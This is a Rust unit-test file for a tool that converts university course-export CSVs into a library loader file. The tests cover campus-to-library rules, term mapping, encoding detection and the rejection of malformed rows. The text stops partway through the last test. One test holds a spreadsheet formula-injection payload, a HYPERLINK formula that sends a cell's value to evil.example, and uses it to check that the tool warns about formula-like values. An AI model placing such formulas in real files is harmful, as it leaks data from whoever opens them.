//! Unit tests, each naming the course-loading rule it checks.

use std::collections::HashMap;
use std::io::Cursor;
use std::sync::Arc;

use super::cem::{detect_encoding, CemError, TextEncoding};
use super::course::{course_for_test, F};
use super::facts::{AlmaFacts, CourseIndex, DeleteGuard};
use super::rules::{DepartmentNote, Rules, RulesError, RulesProblem};
use super::run::{rollover_report, scan, transform};
use super::AlmaCourse;

const HEADER: &str = "CEM_ID,MYASU_COURSE_IDSTRING,COURSE_STATUS,COURSE_NAME,SLN,ASURITEID,INSTRUCTOR_TYPE,COLLEGE_OR_DIVISION_CODE,CAMPUS,COURSE_ID,TERM,YEAR,START_SYNC_DATE,END_SYNC_DATE,COPY_COURSE_SLN,COPY_COURSE_SEMESTER_YEAR,COPY_COURSE_ID,COPY_COURSE_SEMESTER_TERM";

fn asu() -> Rules {
    Rules::asu().unwrap()
}

/// A CEM row with sensible defaults; `f` overrides columns by name.
fn row(code: &str, status: &str, sln: &str, who: &str, f: &[(&str, &str)]) -> String {
    let mut v: HashMap<&str, String> = HashMap::new();
    for (k, d) in [
        ("CEM_ID", "1"),
        ("MYASU_COURSE_IDSTRING", code),
        ("COURSE_STATUS", status),
        ("COURSE_NAME", "ENG 101 Title"),
        ("SLN", sln),
        ("ASURITEID", who),
        ("INSTRUCTOR_TYPE", "Primary"),
        ("COLLEGE_OR_DIVISION_CODE", "AS"),
        ("CAMPUS", "TEMPE"),
        ("COURSE_ID", "ENG 101"),
        ("TERM", "7"),
        ("YEAR", "2026"),
        ("START_SYNC_DATE", "2026-08-20 00:00:00.000000000"),
        ("END_SYNC_DATE", "2026-12-11 00:00:00.000000000"),
        ("COPY_COURSE_SLN", "0"),
        ("COPY_COURSE_SEMESTER_YEAR", ""),
        ("COPY_COURSE_ID", ""),
        ("COPY_COURSE_SEMESTER_TERM", ""),
    ] {
        v.insert(k, d.to_string());
    }
    for (k, val) in f {
        v.insert(k, val.to_string());
    }
    HEADER
        .split(',')
        .map(|h| {
            let s = &v[h];
            if s.contains(',') || s.contains('"') || s.contains('\n') {
                format!("\"{}\"", s.replace('"', "\"\""))
            } else {
                s.clone()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn cem(rows: &[String]) -> Vec<u8> {
    let mut s = String::from(HEADER);
    for r in rows {
        s.push_str("\r\n");
        s.push_str(r);
    }
    s.push_str("\r\n");
    s.into_bytes()
}

/// Transforms and returns the data lines split into fields, plus the summary.
fn run(input: &[u8], guard: DeleteGuard<'_>) -> (Vec<Vec<String>>, super::RunSummary) {
    let mut out = Vec::new();
    let s = transform(&mut Cursor::new(input), &asu(), guard, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let lines = text
        .split("\r\n")
        .skip(1)
        .filter(|l| !l.is_empty())
        .map(|l| l.split('\t').map(str::to_owned).collect())
        .collect();
    (lines, s)
}

fn alma(courses: &[(&str, &str, &str, &[&str], bool)]) -> AlmaFacts {
    let list = courses
        .iter()
        .map(|(id, code, section, ids, _)| AlmaCourse {
            id: id.to_string(),
            code: code.to_string(),
            section: section.to_string(),
            year: code[..4].to_string(),
            searchable_ids: ids.iter().map(|s| s.to_string()).collect(),
        })
        .collect();
    AlmaFacts {
        courses: CourseIndex::from_courses(list),
        reading_lists: courses.iter().map(|c| (c.0.to_string(), c.4)).collect(),
        unclear_reading_lists: Default::default(),
    }
}

// Column indices in the loader file.
const CODE: usize = 0;
const SECTION: usize = 2;
const PROC: usize = 4;
const TERM1: usize = 5;
const START: usize = 9;
const SID1: usize = 14;
const ALL_SIDS: usize = 16;
const INSTR1: usize = 17;
const ALL_INSTR: usize = 27;
const OP: usize = 28;
const OLD_CODE: usize = 29;
const OLD_SECTION: usize = 30;

// ---- rules: processing departments -------------------------------------------------

fn dept(campus: &str, college: &str, course_id: &str, code: &str) -> (String, DepartmentNote) {
    let r = asu();
    let (d, note) = r.processing_department(campus, college, course_id, code);
    (r.name(d).to_owned(), note)
}

#[test]
fn hayden_campuses_go_to_hayden() {
    for c in [
        "CALHC", "CHANDGI", "EAC", "HAINAN", "MESATEM", "OTHERAZ", "OTHERUS", "OUTSIDE", "SCOTTSD",
        "TUCSON",
    ] {
        assert_eq!(
            dept(c, "LW", "ENG 1", "2026Fall-X"),
            ("HAYDEN".into(), DepartmentNote::Ok),
            "{c}"
        );
    }
}

#[test]
fn online_campuses_go_to_asu_online() {
    for c in ["ASUONLI", "ICOURSE"] {
        assert_eq!(dept(c, "LW", "ENG 1", "x").0, "ASU_ONLINE");
    }
}

#[test]
fn tempe_goes_by_college() {
    for col in [
        "AS", "BA", "CS", "FI", "GC", "HO", "LA", "LS", "PP", "PR", "SU", "TB", "TE", "UC", "GF",
    ] {
        assert_eq!(dept("TEMPE", col, "ENG 1", "x").0, "HAYDEN", "{col}");
    }
    for col in ["ES", "NH", "NU"] {
        assert_eq!(dept("TEMPE", col, "ENG 1", "x").0, "NOBLE", "{col}");
    }
    assert_eq!(dept("TEMPE", "HI", "ENG 1", "x").0, "DESIGN");
    assert_eq!(dept("TEMPE", "LW", "ENG 1", "x").0, "LAW");
}

#[test]
fn tempe_with_empty_or_unknown_college_falls_back_to_course_unit_with_warning() {
    for col in ["", "XX"] {
        assert_eq!(
            dept("TEMPE", col, "ENG 1", "x"),
            ("COURSE_UNIT".into(), DepartmentNote::CollegeFallback)
        );
    }
}

#[test]
fn downtown_campuses_send_law_college_to_law_and_the_rest_to_downtown() {
    for c in ["DTPHX", "PHOENIX"] {
        assert_eq!(
            dept(c, "LW", "ENG 1", "x"),
            ("LAW".into(), DepartmentNote::Ok)
        );
        assert_eq!(
            dept(c, "AS", "ENG 1", "x"),
            ("DOWNTOWN".into(), DepartmentNote::Ok)
        );
        assert_eq!(
            dept(c, "", "ENG 1", "x"),
            ("DOWNTOWN".into(), DepartmentNote::Ok)
        );
    }
}

#[test]
fn west_poly_and_tbird_campuses_have_their_libraries() {
    assert_eq!(dept("GLENDALE", "AS", "ENG 1", "x").0, "FLETCHER");
    assert_eq!(dept("WEST", "AS", "ENG 1", "x").0, "FLETCHER");
    assert_eq!(dept("POLY", "AS", "ENG 1", "x").0, "POLYTECHNIC");
    assert_eq!(dept("TBIRD", "AS", "ENG 1", "x").0, "THUNDERBIRD");
}

#[test]
fn unknown_campus_goes_to_hayden_with_warning() {
    assert_eq!(
        dept("LAKEHAV", "AS", "ENG 1", "x"),
        ("HAYDEN".into(), DepartmentNote::UnknownCampus)
    );
}

#[test]
fn music_subjects_override_to_music() {
    for s in ["MDC", "MHL", "MSC", "MSI", "MTC", "MUE", "MUP", "MUS"] {
        assert_eq!(
            dept("POLY", "AS", &format!("{s} 354"), "x").0,
            "MUSIC",
            "{s}"
        );
    }
}

#[test]
fn sdo_subject_overrides_to_law() {
    assert_eq!(dept("POLY", "AS", "SDO 598", "x").0, "LAW");
}

#[test]
fn dev_course_codes_override_to_course_unit_last() {
    assert_eq!(
        dept("POLY", "AS", "MUS 354", "DEV2026Fall-X-MUS354-1").0,
        "COURSE_UNIT"
    );
}

// ---- rules: terms ------------------------------------------------------------------

#[test]
fn every_term_cell_maps_as_the_table_says() {
    let r = asu();
    let cells = [
        ("1", "2026Spring", "SPRING"),
        ("1", "2026SpringC", "SPRING"),
        ("1", "2026SpringA", "TERM4"),
        ("1", "2026SpringB", "TERM5"),
        ("1", "2026SpringDYN", "TERM6"),
        ("4", "2026Summer", "SUMMER"),
        ("4", "2026SummerC", "SUMMER"),
        ("4", "2026SummerA", "TERM7"),
        ("4", "2026SummerB", "TERM8"),
        ("4", "2026SummerDYN", "SEMESTER1"),
        ("7", "2026Fall", "AUTUMN"),
        ("7", "2026FallC", "AUTUMN"),
        ("7", "2026FallA", "TERM1"),
        ("7", "2026FallB", "TERM2"),
        ("7", "2026FallDYN", "TERM3"),
    ];
    for (term, seg, want) in cells {
        let got = r
            .term(term, &format!("{seg}-X-ENG101-1"))
            .map(|t| r.name(t).to_owned());
        assert_eq!(got.as_deref(), Some(want), "{term} {seg}");
    }
}

#[test]
fn unknown_session_suffix_or_mismatched_term_gives_no_term() {
    let r = asu();
    assert_eq!(r.term("7", "2026FallX-X-ENG101-1"), None);
    assert_eq!(r.term("1", "2026Fall-X-ENG101-1"), None);
    assert_eq!(r.term("3", "2026Fall-X-ENG101-1"), None);
}

#[test]
fn no_term_match_leaves_term1_empty_and_warns_but_loads() {
    let (lines, s) = run(
        &cem(&[row("2026FallX-X-ENG101-1", "APPROVED", "1", "a", &[])]),
        DeleteGuard::Offline,
    );
    assert_eq!(lines[0][TERM1], "");
    assert_eq!(s.warnings.len(), 1);
}

#[test]
fn a_value_a_spreadsheet_would_run_as_a_formula_loads_verbatim_with_a_warning() {
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Syllabus\")";
    let input = cem(&[row(
        "2026Fall-X-ENG101-1",
        "APPROVED",
        "1",
        "@someone",
        &[("COURSE_NAME", title)],
    )]);
    let mut out = Vec::new();
    let s = transform(
        &mut Cursor::new(&input),
        &asu(),
        DeleteGuard::Offline,
        &mut out,
    )
    .unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(
        text.contains(&format!("\t{title}\t")),
        "the loader file carries the title byte for byte: {text}"
    );
    let warnings: Vec<String> = s.warnings.iter().map(ToString::to_string).collect();
    assert_eq!(
        warnings,
        [
            "line 2 2026Fall-X-ENG101-1: title starts with '=' (a spreadsheet would run \
             it as a formula); the loader file carries it as it is",
            "line 2 2026Fall-X-ENG101-1: instructor starts with '@' (a spreadsheet would run \
             it as a formula); the loader file carries it as it is",
        ]
    );
}

// ---- rules file --------------------------------------------------------------------

#[test]
fn shipped_rules_load_with_asu_departments_terms_and_settings() {
    let rules = asu();
    let department = |campus, college, course_id, code| {
        let (id, note) = rules.processing_department(campus, college, course_id, code);
        (rules.name(id).to_owned(), note)
    };
    let ok = DepartmentNote::Ok;
    assert_eq!(
        department("TEMPE", "NU", "NUR 101", "2026Fall-X-NUR101-1"),
        ("NOBLE".to_owned(), ok)
    );
    assert_eq!(
        department("PHOENIX", "LW", "LAW 500", "2026Fall-X-LAW500-1"),
        ("LAW".to_owned(), ok)
    );
    assert_eq!(
        department("TEMPE", "XX", "ENG 101", "2026Fall-X-ENG101-1"),
        ("COURSE_UNIT".to_owned(), DepartmentNote::CollegeFallback)
    );
    assert_eq!(
        department("MOON", "AS", "ENG 101", "2026Fall-X-ENG101-1"),
        ("HAYDEN".to_owned(), DepartmentNote::UnknownCampus)
    );
    assert_eq!(
        department("POLY", "AS", "MUS 354", "2026Fall-X-MUS354-1"),
        ("MUSIC".to_owned(), ok)
    );
    let term = |term, code| rules.term(term, code).map(|id| rules.name(id).to_owned());
    assert_eq!(term("7", "2026Fall-X-ENG101-1").as_deref(), Some("AUTUMN"));
    assert_eq!(term("7", "2026FallB-X-ENG101-1").as_deref(), Some("TERM2"));
    assert_eq!(
        term("1", "2026SpringDYN-X-MUS354-1").as_deref(),
        Some("TERM6")
    );
    assert_eq!(
        term("4", "2026SummerC-X-ENG101-1").as_deref(),
        Some("SUMMER")
    );
    assert_eq!(term("4", "2026Fall-X-ENG101-1"), None);
    let date = chrono::NaiveDate::from_ymd_opt(2026, 8, 20).unwrap();
    assert_eq!(rules.format_date(date).to_string(), "20-08-2026");
    assert!(!rules.has_rollover_exclusions());
}

#[test]
fn malformed_rules_file_is_an_error_naming_the_problem() {
    let e = Rules::from_toml("date_format = ", "x.toml")
        .unwrap_err()
        .to_string();
    assert!(e.contains("x.toml"), "{e}");
    let e = Rules::from_toml(
        &format!(
            "time_zone = \"America/Phoenix\"\n{}",
            super::rules::ASU_RULES_TOML
        ),
        "y.toml",
    )
    .unwrap_err();
    assert!(
        matches!(
            e,
            RulesError::Invalid {
                problem: RulesProblem::TimeZoneIsASetting,
                ..
            }
        ),
        "{e}"
    );
    assert!(e.to_string().contains("set TIME_ZONE"), "{e}");
    let err = Rules::from_toml(
        &super::rules::ASU_RULES_TOML.replace("campuses = [\"POLY\"]", "campuses = [\"TEMPE\"]"),
        "z.toml",
    )
    .unwrap_err();
    assert!(
        matches!(
            &err,
            RulesError::Invalid {
                problem: RulesProblem::CampusInTwoRules {
                    first: 2,
                    second: 5,
                    ..
                },
                ..
            }
        ),
        "{err:?}"
    );
    let e = err.to_string();
    assert!(e.contains("TEMPE") && e.contains("more than one"), "{e}");
}

#[test]
fn another_institutions_rules_replace_the_defaults() {
    let toml = r#"
date_format = "%Y/%m/%d"
[processing_departments]
unknown_campus = "MAIN"
[[processing_departments.campus]]
campuses = ["TEMPE"]
department = "TEMPE_LIB"
[terms.7]
l = "FALL"
"#;
    let rules = Rules::from_toml(toml, "other.toml").unwrap();
    let mut out = Vec::new();
    transform(
        &mut Cursor::new(cem(&[row(
            "2026Fall-X-ENG101-1",
            "APPROVED",
            "1",
            "a",
            &[],
        )])),
        &rules,
        DeleteGuard::Offline,
        &mut out,
    )
    .unwrap();
    let text = String::from_utf8(out).unwrap();
    let f: Vec<&str> = text.split("\r\n").nth(1).unwrap().split('\t').collect();
    assert_eq!(
        (f[PROC], f[TERM1], f[START]),
        ("TEMPE_LIB", "FALL", "2026/08/20")
    );
}

// ---- row rules -----------------------------------------------------------------------

#[test]
fn requested_rows_are_skipped_and_counted() {
    let (lines, s) = run(
        &cem(&[
            row("C-1", "REQUESTED", "1", "a", &[]),
            row("C-2", "APPROVED", "2", "b", &[]),
        ]),
        DeleteGuard::Offline,
    );
    assert_eq!(lines.len(), 1);
    assert_eq!((s.rows_read, s.rows_skipped), (2, 1));
}

#[test]
fn single_row_course_has_its_fields_in_the_first_columns() {
    let (lines, _) = run(
        &cem(&[row(
            "2026Fall-X-ENG101-1",
            "COMPLETED",
            "12-345",
            "ab1",
            &[],
        )]),
        DeleteGuard::Offline,
    );
    let l = &lines[0];
    assert_eq!(l.len(), 34);
    assert_eq!(
        (
            l[SECTION].as_str(),
            l[SID1].as_str(),
            l[INSTR1].as_str(),
            l[OP].as_str()
        ),
        ("12345", "ENG 101", "ab1", "")
    );
    assert_eq!(
        (
            l[START].as_str(),
            l[10].as_str(),
            l[13].as_str(),
            l[3].as_str()
        ),
        ("20-08-2026", "11-12-2026", "2026", "AS")
    );
}

#[test]
fn writer_uses_crlf_utf8_and_turns_tabs_and_line_breaks_into_spaces() {
    let input = cem(&[row(
        "C-1",
        "APPROVED",
        "1",
        "a",
        &[("COURSE_NAME", "A\tB\nC")],
    )]);
    let mut out = Vec::new();
    transform(
        &mut Cursor::new(input),
        &asu(),
        DeleteGuard::Offline,
        &mut out,
    )
    .unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(text.ends_with("\r\n") && text.matches("\r\n").count() == 2);
    assert!(text.contains("\tA B C\t"));
    assert_eq!(text.split("\r\n").next().unwrap().split('\t').count(), 34);
}

// ---- bad rows and fatal input -----------------------------------------------------------

#[test]
fn each_kind_of_bad_row_is_rejected_with_line_code_column_and_reason() {
    let short = "9,C-5,APPROVED,too short".to_string();
    let input = cem(&[
        row(
            "C-0",
            "APPROVED",
            "0",
            "a",
            &[("COURSE_NAME", "two\nlines")],
        ),
        row("", "APPROVED", "1", "a", &[]),
        row("C-2", "APPROVED", "2", "a", &[("TERM", "")]),
        row(
            "C-3",
            "APPROVED",
            "3",
            "a",
            &[("START_SYNC_DATE", "20/08/2026")],
        ),
        row("C-4", "APPROVED", "4", "a", &[("END_SYNC_DATE", "")]),
        short,
        row("C-6", "APPROVED", "6", "a", &[]),
    ]);
    let (lines, s) = run(&input, DeleteGuard::Offline);
    assert_eq!(lines.len(), 2);
    // Rejects name a column by its role: the same whatever the export calls it.
    let got: Vec<(u64, &str, Option<&str>)> = s
        .rejects
        .iter()
        .map(|r| (r.line, r.course_code.as_str(), r.column))
        .collect();
    assert_eq!(
        got,
        vec![
            (4, "", Some("course_code")),
            (5, "C-2", Some("term")),
            (6, "C-3", Some("start_date")),
            (7, "C-4", Some("end_date")),
            (8, "C-5", None),
        ]
    );
    assert!(s.rejects[4].reason.contains("expected 18 fields, found 4"));
    assert_eq!(s.rejects[1].reason, "empty term");
    assert_eq!(
        s.rejects[2].reason,
        "unparseable date \"20/08/2026\" (want YYYY-MM-DD ...)"
    );
}

#[test]
fn columns_are_found_by_name_in_any_order_and_extras_are_ignored() {
    let header: Vec<&str> = HEADER.split(',').rev().chain(["EXTRA"]).collect();
    let r = row("C-1", "APPROVED", "1", "a", &[]);
    let fields: Vec<&str> = r.split(',').rev().chain(["x"]).collect();
    let input = format!("{}\n{}\n", header.join(","), fields.join(","));
    let (lines, _) = run(input.as_bytes(), DeleteGuard::Offline);
    assert_eq!(lines[0][CODE], "C-1");
}

#[test]
fn missing_columns_are_fatal_and_named() {
    let input = "MYASU_COURSE_IDSTRING,COURSE_STATUS\nC-1,APPROVED\n";
    let e = transform(
        &mut Cursor::new(input),
        &asu(),
        DeleteGuard::Offline,
        Vec::new(),
    )
    .unwrap_err();
    let msg = e.to_string();
    assert!(
        msg.contains("no column TERM (term)")
            && msg.contains("no column SLN (section)")
            && !msg.contains("COURSE_STATUS"),
        "{msg}"
    );
}

#[test]
fn empty_file_header_only_and_binary_input_are_fatal() {
    type Case<'a> = (&'a [u8], fn(&CemError) -> bool);
    let cases: [Case<'_>; 4] = [
        (b"", |e| matches!(e, CemError::EmptyFile)),
        (b"\xEF\xBB\xBF \r\n", |e| matches!(e, CemError::EmptyFile)),
        (HEADER.as_bytes(), |e| matches!(e, CemError::NoDataRows)),
        (b"PK\x03\x04\x00\x00binary", |e| {
            matches!(e, CemError::NotText { .. })
        }),
    ];
    for (input, is) in cases {
        match transform(
            &mut Cursor::new(input),
            &asu(),
            DeleteGuard::Offline,
            Vec::new(),
        ) {
            Err(super::RunError::Input(e)) => assert!(is(&e), "{e}"),
            other => panic!("{:?}", other.map(|s| s.rows_read)),
        }
    }
}

#[test]
fn windows_1252_and_utf8_with_bom_are_both_read_as_text() {
    let utf8 = cem(&[row(
        "C-1",
        "APPROVED",
        "1",
        "a",
        &[("COURSE_NAME", "Théorie Café")],
    )]);
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend_from_slice(&utf8);
    let cp1252: Vec<u8> = String::from_utf8(utf8.clone())
        .unwrap()
        .chars()
        .map(|c| u8::try_from(u32::from(c)).unwrap())
        .collect();
    assert_eq!(detect_encoding(&utf8[..]).unwrap(), TextEncoding::Utf8);
    assert_eq!(
        detect_encoding(&cp1252[..]).unwrap(),
        TextEncoding::Windows1252
    );
    for input in [utf8, bom, cp1252] {
        let (lines, _) = run(&input, DeleteGuard::Offline);
        assert_eq!(lines[0][1], "Théorie Café");
        assert_eq!(lines[0][CODE], "C-1");
    }
}

#[test]
fn a_fields_trim_is_str_trim() {
    let padded = [
        "",
        " ",
        "a",
        "ab",
        " a",
        "a ",
        "\ta\r",
        "a b",
        "é",
        "Café",
        "\u{a0}Café\u{a0}",
        "\u{3000}x",
        "x\u{2003}",
    ];
    for s in padded {
        assert_eq!(super::cem::trim(s), s.trim(), "{s:?}");
    }
}

#[test]
fn utf8_check_spans_read_boundaries() {
    // 'é' split across the 64 KiB chunk boundary is still valid UTF-8.
    let mut big = vec![b'a'; 64 * 1024 - 1];
    big.extend_from_slice("é".as_bytes());
    assert_eq!(detect_encoding(&big[..]).unwrap(), TextEncoding::Utf8);
    big.push(0xE9);
    assert_eq!(
        detect_encoding(&big[..]).unwrap(),
        TextEncoding::Windows1252
    );
}

#[test]
fn windows_1252_is_decided_without_reading_the_rest_of_a_large_export() {
    // After a byte that is not UTF-8, the rest of the export cannot change the answer: a
    // source that fails if read further shows detection stops there.
    struct Then<'a>(&'a [u8]);
    impl std::io::Read for Then<'_> {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            if self.0.is_empty() {
                return Err(std::io::Error::other("read past the decision"));
            }
            let n = buf.len().min(self.0.len());
            buf[..n].copy_from_slice(&self.0[..n]);
            self.0 = &self.0[n..];
            Ok(n)
        }
    }
    let head = b"MYASU_COURSE_IDSTRING,COURSE_NAME\nC-1,Caf\xE9\n";
    assert_eq!(
        detect_encoding(Then(head)).unwrap(),
        TextEncoding::Windows1252
    );
    // Valid UTF-8 so far is no answer: UTF-8 is read to the end.
    assert!(detect_encoding(Then(b"C-1,Caf\xC3\xA9\n")).is_err());
}

// ---- §1: UTF-16 exports and rows that are not text (issue 17) -----------------------------

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for unit in text.encode_utf16() {
        out.extend(if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        });
    }
    out
}

/// Hands out one byte per read, so every boundary falls inside a character somewhere.
struct OneByte<'a>(&'a [u8]);

impl std::io::Read for OneByte<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        match (self.0.split_first(), buf.is_empty()) {
            (Some((b, rest)), false) => {
                buf[0] = *b;
                self.0 = rest;
                Ok(1)
            }
            _ => Ok(0),
        }
    }
}

#[test]
fn utf16_with_a_byte_order_mark_reads_like_utf8_in_either_byte_order() {
    let utf8 = cem(&[
        row(
            "C-1",
            "APPROVED",
            "1",
            "a",
            &[("COURSE_NAME", "Théorie Café 😀")],
        ),
        row("C-2", "APPROVED", "2", "a", &[("COURSE_NAME", "Ελληνικά")]),
    ]);
    let text = String::from_utf8(utf8.clone()).unwrap();
    let (want, _) = run(&utf8, DeleteGuard::Offline);
    for (big_endian, encoding) in [
        (false, TextEncoding::Utf16Le),
        (true, TextEncoding::Utf16Be),
    ] {
        let input = utf16(&text, big_endian);
        assert_eq!(detect_encoding(&input[..]).unwrap(), encoding);
        assert_eq!(detect_encoding(OneByte(&input)).unwrap(), encoding);
        let (got, s) = run(&input, DeleteGuard::Offline);
        assert_eq!(got, want, "{encoding:?}");
        assert_eq!(s.input_encoding, Some(encoding));
        assert_eq!(got[0][1], "Théorie Café 😀");

        // Read a byte at a time: surrogate pairs and BOM split across reads.
        let mut reader = super::cem::TextReader::new(OneByte(&input), encoding);
        let mut decoded = String::new();
        std::io::Read::read_to_string(&mut reader, &mut decoded).unwrap();
        assert_eq!(decoded, text, "{encoding:?}");
    }
}

#[test]
fn utf16_with_only_a_byte_order_mark_or_whitespace_is_empty() {
    for input in [vec![0xFF, 0xFE], utf16(" \r\n", false), utf16("", true)] {
        assert!(
            matches!(detect_encoding(&input[..]), Err(CemError::EmptyFile)),
            "{input:?}"
        );
    }
}

#[test]
fn utf16_without_a_byte_order_mark_is_not_text_and_the_message_says_why() {
    let text = String::from_utf8(cem(&[row("C-1", "APPROVED", "1", "a", &[])])).unwrap();
    let input = utf16(&text, false)[2..].to_vec();
    let e = transform(
        &mut Cursor::new(input),
        &asu(),
        DeleteGuard::Offline,
        Vec::new(),
    )
    .unwrap_err();
    let msg = e.to_string();
    assert!(
        matches!(e, super::RunError::Input(CemError::NotText { byte: 0 })),
        "{msg}"
    );
    assert!(msg.contains("byte order mark"), "{msg}");
}

/// `n` good rows, `C-0` … .
fn good_rows(n: usize) -> Vec<String> {
    (0..n)
        .map(|i| row(&format!("C-{i}"), "APPROVED", &i.to_string(), "a", &[]))
        .collect()
}

#[test]
fn a_stray_nul_costs_its_row_which_is_rejected_naming_line_and_column() {
    let mut rows = good_rows(200);
    rows[10] = row(
        "C-10",
        "APPROVED",
        "10",
        "a",
        &[("COURSE_NAME", "ENG\0 101")],
    );
    // In a column the rules do not use, the file's own name for it.
    rows[20] = row(
        "C-20",
        "APPROVED",
        "20",
        "a",
        &[("INSTRUCTOR_TYPE", "Pri\u{1}mary")],
    );
    let (lines, s) = run(&cem(&rows), DeleteGuard::Offline);
    assert_eq!(lines.len(), 198);
    assert!(lines.iter().all(|l| l[CODE] != "C-10" && l[CODE] != "C-20"));
    let got: Vec<(u64, &str, Option<&str>, &str)> = s
        .rejects
        .iter()
        .map(|r| (r.line, r.course_code.as_str(), r.column, r.reason.as_str()))
        .collect();
    assert_eq!(
        got,
        vec![
            (12, "C-10", Some("title"), "control character in title"),
            (22, "C-20", None, "control character in INSTRUCTOR_TYPE"),
        ]
    );
    assert_eq!(s.rows_read, 200);
}

#[test]
fn a_control_character_in_the_course_code_is_left_out_of_the_reject() {
    let mut rows = good_rows(5);
    rows[1] = row("C-\u{0}1", "APPROVED", "1", "a", &[]);
    let (_, s) = run(&cem(&rows), DeleteGuard::Offline);
    assert_eq!(s.rejects[0].course_code, "C-1");
    assert_eq!(s.rejects[0].column, Some("course_code"));
}

#[test]
fn more_than_one_percent_of_rows_not_text_is_fatal_and_one_in_a_small_file_is_not() {
    let mut rows = good_rows(100);
    rows[5] = row("C-5", "APPROVED", "5", "a", &[("COURSE_NAME", "\0")]);
    // One bad row, even of two, is that row's loss only.
    let (lines, s) = run(
        &cem(&[rows[0].clone(), rows[5].clone()]),
        DeleteGuard::Offline,
    );
    assert_eq!((lines.len(), s.rejects.len()), (1, 1));
    let (lines, s) = run(&cem(&rows), DeleteGuard::Offline);
    assert_eq!((lines.len(), s.rejects.len()), (99, 1));
    rows[50] = row("C-50", "APPROVED", "50", "a", &[("CAMPUS", "\u{7f}")]);
    let e = transform(
        &mut Cursor::new(cem(&rows)),
        &asu(),
        DeleteGuard::Offline,
        Vec::new(),
    )
    .unwrap_err();
    assert!(
        matches!(
            e,
            super::RunError::Input(CemError::MostlyNotText {
                bad_rows: 2,
                rows: 100
            })
        ),
        "{e}"
    );
    assert!(
        e.to_string()
            .contains("2 of its 100 rows have control characters"),
        "{e}"
    );
}

#[test]
fn a_zip_is_fatal_as_not_text_before_any_row() {
    let zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00leganto_export.csv\x00\x00\xff\xfe";
    let mut out = Vec::new();
    let e = transform(
        &mut Cursor::new(&zip[..]),
        &asu(),
        DeleteGuard::Offline,
        &mut out,
    )
    .unwrap_err();
    assert!(
        matches!(e, super::RunError::Input(CemError::NotText { byte: 3 })),
        "{e}"
    );
    assert!(
        e.to_string().starts_with("the CEM export is not text"),
        "{e}"
    );
    assert!(out.is_empty());
}

// ---- §1: rows broken by an unquoted line break -------------------------------------------

fn joined_warnings(s: &super::RunSummary) -> Vec<&super::course::Warning> {
    s.warnings
        .iter()
        .filter(|w| matches!(w.kind, super::course::WarningKind::JoinedLines { .. }))
        .collect()
}

/// `row` with its COURSE_NAME broken at each `|` by an unquoted CRLF.
fn broken_row(code: &str, sln: &str, name: &str) -> String {
    row(code, "APPROVED", sln, "a", &[("COURSE_NAME", name)]).replace('|', "\r\n")
}

#[test]
fn a_row_broken_by_an_unquoted_line_break_is_joined_with_a_warning_naming_both_lines() {
    let input = cem(&[
        row("C-1", "APPROVED", "1", "a", &[]),
        broken_row("C-2", "2", "ENG 101 Intro to|Writing"),
        row("C-3", "APPROVED", "3", "a", &[]),
    ]);
    let (lines, s) = run(&input, DeleteGuard::Offline);
    assert_eq!(s.rows_read, 3);
    assert!(s.rejects.is_empty(), "{:?}", s.rejects);
    let titles: Vec<(&str, &str)> = lines
        .iter()
        .map(|l| (l[CODE].as_str(), l[1].as_str()))
        .collect();
    assert_eq!(
        titles,
        vec![
            ("C-1", "ENG 101 Title"),
            ("C-2", "ENG 101 Intro to Writing"),
            ("C-3", "ENG 101 Title")
        ]
    );
    assert_eq!(
        lines[1][SECTION], "2",
        "the fields after the break are in place"
    );
    let joined = joined_warnings(&s);
    assert_eq!(joined.len(), 1, "{:?}", s.warnings);
    let w = joined[0].to_string();
    assert!(
        w.starts_with("line 3 C-2: fewer fields than the header; joined with line 4"),
        "{w}"
    );
    let json = serde_json::to_value(joined[0]).unwrap();
    assert_eq!(json["warning"], "joined_lines");
    assert_eq!(
        (json["line"].as_u64(), json["next_line"].as_u64()),
        (Some(3), Some(4))
    );
}

#[test]
fn a_joined_row_that_breaks_a_rule_is_rejected_saying_it_was_joined() {
    let mut bad = row("C-2", "APPROVED", "2", "a", &[("TERM", "")]);
    bad = bad.replacen("ENG 101 Title", "ENG 101\r\nTitle", 1);
    let input = cem(&[bad, row("C-3", "APPROVED", "3", "a", &[])]);
    let (lines, s) = run(&input, DeleteGuard::Offline);
    assert_eq!(lines.len(), 1);
    assert_eq!((s.rejects[0].line, s.rejects[0].column), (2, Some("term")));
    assert!(
        s.rejects[0]
            .reason
            .ends_with("(lines 2 and 3 joined across an unquoted line break)"),
        "{}",
        s.rejects[0].reason
    );
}

#[test]
fn broken_parts_that_do_not_add_up_are_each_rejected_with_their_line() {
    let input = cem(&[
        row("C-1", "APPROVED", "1", "a", &[]),
        // Broken twice: three parts, no two of which make a row.
        broken_row("C-2", "2", "ENG 101|Intro to|Writing"),
        row("C-3", "APPROVED", "3", "a", &[]),
        // A stray fragment before a whole row: the row is not spoiled.
        "stray".to_string(),
        row("C-4", "APPROVED", "4", "a", &[]),
        // A fragment at the end of the file.
        "C-5,APPROVED".to_string(),
    ]);
    let (lines, s) = run(&input, DeleteGuard::Offline);
    let codes: Vec<&str> = lines.iter().map(|l| l[CODE].as_str()).collect();
    assert_eq!(codes, vec!["C-1", "C-3", "C-4"]);
    let lines_and_reasons: Vec<(u64, String)> = s
        .rejects
        .iter()
        .map(|r| (r.line, r.reason.clone()))
        .collect();
    assert_eq!(
        lines_and_reasons,
        vec![
            (3, "expected 18 fields, found 4".to_string()),
            (4, "expected 18 fields, found 1".to_string()),
            (5, "expected 18 fields, found 15".to_string()),
            (7, "expected 18 fields, found 1".to_string()),
            (9, "expected 18 fields, found 2".to_string()),
        ]
    );
    assert_eq!(s.rejects[0].course_code, "C-2");
    assert!(joined_warnings(&s).is_empty(), "{:?}", s.warnings);
    assert_eq!(s.rows_read, 3 + 5);
}

#[test]
fn a_quoted_line_break_is_part_of_the_field_as_before() {
    let input = cem(&[row(
